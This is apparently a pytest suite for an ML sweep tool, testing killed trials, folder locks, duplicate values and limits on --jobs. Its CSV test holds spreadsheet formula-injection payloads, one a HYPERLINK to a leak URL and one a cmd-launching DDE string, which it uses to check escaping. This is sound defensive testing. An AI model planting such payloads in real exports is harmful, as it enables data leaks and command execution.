"""`l2compile sweep` at its bounds (issue 27): an unreachable Ray cluster,
a killed sweep and its trials, two sweeps on one folder, a value given twice,
a cell a spreadsheet would run, and --jobs."""

from __future__ import annotations

import csv
import fcntl
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from l2compile import engines
from l2compile import sweep as sweep_
from l2compile.cli import main
from l2compile.overrides import parse
from tests.conftest import SMALL_SPEC, make_mnist_npz
from tests.test_sweep import _metrics, _ray_head, _spec

SWEEP = [sys.executable, "-m", "l2compile", "sweep"]


def _sweep(*args: str, cwd: Path, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*SWEEP, *args],
        cwd=cwd,
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        timeout=300,  # a hang fails here instead of waiting for ever
    )


def _two_trials(
    tmp_path: Path,
) -> tuple[Path, sweep_.SweepPlan, Path, list[sweep_.Trial]]:
    """A sweep of l2=0,0.01 over the small spec, its folder made: the spec,
    the plan, the folder and its two trials."""
    spec = _spec(tmp_path)
    planned = sweep_.plan_sweep(spec, [parse("l2=0,0.01")])
    assert isinstance(planned, sweep_.SweepPlan)
    out = tmp_path / "out"
    return spec, planned, out, sweep_.open_folder(out, planned, resume=False)


def _publish(folder: Path, spec_sha256: str, accuracy: float) -> None:
    """What a trial's build publishes, as far as the sweep reads it."""
    folder.mkdir()
    (folder / "manifest.json").write_text(json.dumps({"spec": {"sha256": spec_sha256}}))
    (folder / "metrics.json").write_text(json.dumps(_metrics(accuracy)))


# --- 4. an unreachable Ray cluster -------------------------------------------------


@pytest.mark.external
def test_an_unreachable_ray_cluster_is_refused_at_once_by_its_address(
    tmp_path: Path,
) -> None:
    # ray.init retried this address for 14 minutes before; the timeout of
    # 120 s fails the test long before that.
    result = subprocess.run(
        [
            *(*SWEEP, str(_spec(tmp_path)), "--set", "l2=0,0.01"),
            *("--engine", "ray", "--out", "out"),
        ],
        cwd=tmp_path,
        env={**os.environ, "RAY_ADDRESS": "127.0.0.1:1"},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 3, result.stderr
    assert result.stderr.splitlines()[-1] == (
        "error: --engine ray: cannot reach the Ray cluster at 127.0.0.1:1 (from "
        "RAY_ADDRESS): Connection refused; start it (ray start --head) or set "
        "RAY_ADDRESS to its address"
    )
    assert not (tmp_path / "out").exists()


@pytest.mark.unit
def test_a_cluster_address_is_read_as_ray_reads_it() -> None:
    assert engines._host_port("10.0.0.5:6379") == ("10.0.0.5", 6379)
    assert engines._host_port("ray://head:10001") == ("head", 10001)
    assert engines._host_port("[::1]:6379") == ("::1", 6379)
    # Ray finds these itself: nothing to probe.
    assert engines._host_port("auto") is None
    assert engines._host_port("head") is None


# --- 5. a sweep owns its trials and its folder ---------------------------------------


def _started(pid: int) -> str | None:
    """A process's start time (the same pid later is another process), or
    None once it has ended (a zombie has ended)."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return None
    return None if fields[0] in "ZX" else fields[19]


def _descendants(pid: int) -> Iterator[int]:
    """Every process below `pid` (the children of each of its threads: a
    trial's launcher is started from one of the sweep's threads)."""
    for task in Path(f"/proc/{pid}/task").glob("*"):
        try:
            children = (task / "children").read_text().split()
        except OSError:
            continue
        for child in map(int, children):
            yield child
            yield from _descendants(child)


def _wait_until_gone(processes: dict[int, str | None], seconds: float) -> None:
    ends = time.monotonic() + seconds
    while True:
        left = [p for p, t in processes.items() if t and _started(p) == t]
        if not left:
            return
        assert time.monotonic() < ends, f"still running: {left}"
        time.sleep(0.1)


@pytest.mark.build
def test_a_trials_launcher_dies_with_the_sweep_that_started_it(
    tmp_path: Path,
) -> None:
    """A stand-in sweep runs a trial as the local engine does (run_trial, in a
    thread of its own) and is SIGKILLed: the launcher and its build (here a
    sleep) must end too."""
    sweep = subprocess.Popen(
        [
            *(sys.executable, "-c"),
            "import sys, threading\n"
            "from l2compile.engines import TrialRun, run_trial\n"
            "run = TrialRun('000', ('/bin/sleep', '60'), sys.argv[1], sys.argv[2])\n"
            "threading.Thread(target=run_trial, args=(run,)).start()\n",
            *(str(tmp_path / "000.log"), str(tmp_path)),
        ],
        cwd=Path(__file__).resolve().parent.parent,
    )
    try:
        ends = time.monotonic() + 30
        found: list[int] = []
        while len(found) < 2 or not _started(found[-1]):  # the launcher, the build
            assert time.monotonic() < ends, "the launcher did not start its build"
            time.sleep(0.05)
            found = list(_descendants(sweep.pid))
        processes = {p: _started(p) for p in found}
    finally:
        sweep.kill()
        sweep.wait(timeout=10)
    _wait_until_gone(processes, 30)


@pytest.mark.build
def test_a_killed_sweep_leaves_no_trial_running_and_resume_finishes_it(
    tmp_path: Path,
) -> None:
    data = make_mnist_npz(tmp_path / "mnist.npz", n_train=600, n_test=64)
    spec = _spec(tmp_path, SMALL_SPEC.replace("epochs: 1", "epochs: 5"))
    args = [str(spec), "--set", "l2=0,0.01", "--data", str(data), "--out", "out"]
    sweep = subprocess.Popen(
        [*SWEEP, *args, "--jobs", "2"],
        cwd=tmp_path,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    trials = tmp_path / "out" / "trials"
    try:
        ends = time.monotonic() + 300
        # Mid-trial: a build holds its work folder.
        while not list(trials.glob(".*.partial")):
            assert sweep.poll() is None, "the sweep ended before a trial started"
            assert time.monotonic() < ends, "no trial started"
            time.sleep(0.05)
        processes = {p: _started(p) for p in _descendants(sweep.pid)}
    finally:
        sweep.kill()
        sweep.wait(timeout=10)
    assert len(processes) >= 2  # a launcher and its build, at least
    _wait_until_gone(processes, 60)
    # Stopped, not left to finish: an orphan would have published its trial.
    assert not list(trials.glob("*/metrics.json"))

    resumed = _sweep(*args, "--resume", "--jobs", "2", cwd=tmp_path)
    assert resumed.returncode == 0, resumed.stderr
    rows = json.loads((tmp_path / "out" / "results.json").read_text())["trials"]
    assert [(r["trial"], r["status"]) for r in rows] == [("000", "ok"), ("001", "ok")]
    assert not list(trials.glob(".peak-*"))  # the killed sweep's, tidied


@pytest.mark.build
def test_a_second_sweep_is_refused_and_a_resume_waits_for_a_build_still_running(
    tmp_path: Path,
) -> None:
    """Trial 000 finished before; trial 001's build, left by a killed sweep,
    still holds its work folder (this test holds its lock). A --resume must
    wait for it and keep what it publishes, not call it failed; a second
    --resume meanwhile must stop at once, writing nothing."""
    spec, planned, out, (first, second) = _two_trials(tmp_path)
    published = [sweep_.trial_dir(out, t) / "metrics.json" for t in (first, second)]
    _publish(published[0].parent, planned.spec_sha256, 0.8)
    work = out / "trials" / ".001.partial"
    work.mkdir()
    lock = os.open(work, os.O_RDONLY | os.O_DIRECTORY)
    fcntl.flock(lock, fcntl.LOCK_EX)
    args = [str(spec), "--set", "l2=0,0.01", "--out", "out", "--resume"]
    said = tmp_path / "resume.err"
    try:
        with said.open("w") as err:
            waiting = subprocess.Popen(
                [*SWEEP, *args], cwd=tmp_path, stdout=subprocess.PIPE, stderr=err
            )
        ends = time.monotonic() + 120
        while "waiting for it to end" not in said.read_text():
            assert waiting.poll() is None, said.read_text()
            assert time.monotonic() < ends, said.read_text()
            time.sleep(0.05)

        refused = _sweep(*args, cwd=tmp_path)
        assert refused.returncode == 3, refused.stderr
        assert refused.stderr.splitlines()[-1] == (
            "error: out: another l2compile sweep is running in it now (the folder "
            "is locked); wait for it to end, or choose another --out"
        )
        assert not (out / "results.csv").exists()

        # The build publishes, then ends.
        _publish(published[1].parent, planned.spec_sha256, 0.9)
    finally:
        os.close(lock)
    try:
        waiting.communicate(timeout=120)
    finally:
        waiting.kill()
    assert waiting.returncode == 0, said.read_text()
    lines = said.read_text().splitlines()
    assert (
        "l2compile: trial 001: an earlier build of it is still running (its work "
        "folder is locked); waiting for it to end"
    ) in lines
    assert "l2compile: trial 001: its earlier build finished; its result is kept" in (
        lines
    )
    with (out / "results.csv").open(encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [(r["trial"], r["status"]) for r in rows] == [("000", "ok"), ("001", "ok")]
    assert json.loads((out / "results.json").read_text())["best"] == "001"


@pytest.mark.external
def test_a_sweep_through_ray_leaves_no_trial_running_when_killed(
    tmp_path: Path,
) -> None:
    import shutil
    import tempfile

    pytest.importorskip("ray", reason='the test extra installs "l2compile[ray]"')
    env = {
        **os.environ,
        "RAY_USAGE_STATS_ENABLED": "0",
        "RAY_ENABLE_WINDOWS_OR_OSX_CLUSTER": "0",
    }
    temp = Path(tempfile.mkdtemp(prefix="rayh", dir="/tmp"))  # short: its sockets
    head, address = _ray_head(str(Path(sys.executable).parent / "ray"), env, temp)
    out = str(tmp_path / "out").encode()

    def trials() -> dict[int, str | None]:
        """The trials' processes, by their command lines: Ray's workers, not
        the sweep, start them."""
        found = {}
        for proc in Path("/proc").glob("[0-9]*"):
            try:
                line = (proc / "cmdline").read_bytes()
            except OSError:
                continue
            if out in line and (started := _started(int(proc.name))):
                found[int(proc.name)] = started
        return found

    try:
        data = make_mnist_npz(tmp_path / "mnist.npz", n_train=600, n_test=64)
        spec = _spec(tmp_path, SMALL_SPEC.replace("epochs: 1", "epochs: 3"))
        sweep = subprocess.Popen(
            [
                *(*SWEEP, str(spec), "--set", "l2=0,0.01", "--data", str(data)),
                *("--out", "out", "--engine", "ray", "--jobs", "2"),
            ],
            cwd=tmp_path,
            env={**env, "RAY_ADDRESS": address},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            ends = time.monotonic() + 300
            while len(running := trials()) < 2:  # a launcher and its build
                assert sweep.poll() is None, "the sweep ended before a trial ran"
                assert time.monotonic() < ends, "no trial started"
                time.sleep(0.1)
        finally:
            sweep.kill()
            sweep.wait(timeout=10)
        _wait_until_gone(running, 60)
        _wait_until_gone(trials(), 60)  # any that started meanwhile
    finally:
        head.send_signal(signal.SIGTERM)
        head.wait(timeout=120)
        shutil.rmtree(temp, ignore_errors=True)


# --- 6. a value given twice -----------------------------------------------------------


@pytest.mark.unit
def test_a_value_given_twice_however_written_is_refused_at_its_set(
    tmp_path: Path,
) -> None:
    out = tmp_path / "sweep"
    result = CliRunner().invoke(
        main,
        [
            *("sweep", str(_spec(tmp_path))),
            *("--set", "l2=0.01,1e-2,0.01", "--set", "layers[1].units=4,4"),
            *("--out", str(out)),
        ],
    )
    assert result.exit_code == 2
    same = ": a sweep would run the same trial twice; give each value once"
    assert result.output.splitlines()[:3] == [
        f"--set l2=0.01,1e-2,0.01: error: l2: 0.01 and 1e-2 are the same value{same}",
        f"--set l2=0.01,1e-2,0.01: error: l2: 0.01 is given twice{same}",
        f"--set layers[1].units=4,4: error: layers[1].units: 4 is given twice{same}",
    ]
    assert not out.exists()
    # 1 and 1.0 are one number; true is not 1, nor "1" a number.
    found = sweep_._duplicates([parse("x=1,1.0,true,'1',[1],[1.0]")])
    assert [e.message.split(":")[0] for e in found] == [
        "1 and 1.0 are the same value",
        "[1] and [1.0] are the same value",
    ]


# --- 7. a cell a spreadsheet would run ------------------------------------------------


@pytest.mark.unit
def test_results_csv_holds_no_formula_and_results_json_the_raw_values(
    tmp_path: Path,
) -> None:
    planned = sweep_.plan_sweep(_spec(tmp_path), [parse("l2=0,0.01")])
    assert isinstance(planned, sweep_.SweepPlan)
    hostile = [
        '=HYPERLINK("http://127.0.0.1:9/leak")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "-1e-3 ",
    ]
    kept = ["-0.5", "-1e-3", "+2", "plain", "a=b"]
    rows = [
        {"trial": f"{i:03d}", "status": "ok", "description": value, "val_loss": -0.5}
        for i, value in enumerate(hostile + kept)
    ]
    sweep_.write_results(planned, tmp_path, rows)
    with (tmp_path / "results.csv").open(encoding="utf-8", newline="") as f:
        read = list(csv.DictReader(f))
    assert [r["description"] for r in read] == [
        *("'" + value.replace("\r", "\n") for value in hostile),
        *kept,
    ]
    assert {r["val_loss"] for r in read} == {"-0.5"}  # a number stays one
    raw = json.loads((tmp_path / "results.json").read_text())["trials"]
    assert [r["description"] for r in raw] == hostile + kept


# --- --jobs ---------------------------------------------------------------------------


@pytest.mark.unit
def test_jobs_is_capped_on_the_local_engine_and_never_above_the_trials(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "sweep"
    result = CliRunner().invoke(
        main,
        [
            *("sweep", str(_spec(tmp_path)), "--set", "l2=0,0.01"),
            *("--jobs", "65", "--out", str(out)),
        ],
    )
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == (
        "error: --jobs 65: the local engine runs at most 64 trials at once (each "
        "is a build process on this machine); --engine ray runs more on a cluster"
    )
    assert not out.exists()
    sweep_.check_jobs(1000, "ray")  # Ray runs as many as the cluster has CPUs for
    monkeypatch.setattr(sweep_, "_cpus", lambda: 2)
    said: list[str] = []
    assert sweep_._at_once(8, "local", 3, said.append) == 3
    assert said == [
        "note: --jobs 8: 3 builds at once share this machine's 2 CPUs, so each "
        "runs slower"
    ]
    assert sweep_._at_once(8, "local", 2, said.append) == 2
    assert sweep_._at_once(8, "ray", 3, said.append) == 3
    assert len(said) == 1


# --- a spec edited while the sweep runs -------------------------------------------


@pytest.mark.unit
def test_a_trial_built_from_an_edited_spec_is_not_compared(tmp_path: Path) -> None:
    # Each trial is a build that reads the spec file: one edited meanwhile
    # would be compared with the others as if it were the same model.
    spec, planned, out, (first, second) = _two_trials(tmp_path)
    _publish(sweep_.trial_dir(out, first), planned.spec_sha256, 0.8)
    _publish(sweep_.trial_dir(out, second), "f" * 64, 0.9)
    kept = sweep_.row(planned, out, first, {})
    assert kept["status"] == "ok"
    edited = sweep_.row(planned, out, second, {})
    assert edited["status"] == "failed"
    assert edited["error"] == (
        f"{spec.resolve()} changed while the sweep ran: this trial was built from "
        f"another spec (sha256 ffffffffffff..., the sweep's "
        f"{planned.spec_sha256[:12]}...), so it is not compared; restore the "
        "spec, or start a new sweep"
    )
    assert "val_accuracy" not in edited


@pytest.mark.unit
def test_files_in_the_sweep_folder_are_read_with_a_bound(tmp_path: Path) -> None:
    # Before: a sweep.json of 200,000 '[' gave a RecursionError traceback on
    # --resume, and a trial's metrics.json that is not JSON a JSONDecodeError.
    _, planned, out, (first, _) = _two_trials(tmp_path)
    _publish(sweep_.trial_dir(out, first), planned.spec_sha256, 0.8)
    (sweep_.trial_dir(out, first) / "metrics.json").write_text("{bad")
    found = sweep_.row(planned, out, first, {})
    assert found["status"] == "failed"
    assert found["error"].startswith(
        f"{sweep_.trial_dir(out, first) / 'metrics.json'}: cannot be read (not JSON: "
    )
    (out / "sweep.json").write_text("[" * 200_000)
    with pytest.raises(sweep_.BuildError) as err:
        sweep_.open_folder(out, planned, resume=True)
    assert (
        str(err.value) == f"cannot read {out / 'sweep.json'}: not JSON: nested too deep"
    )
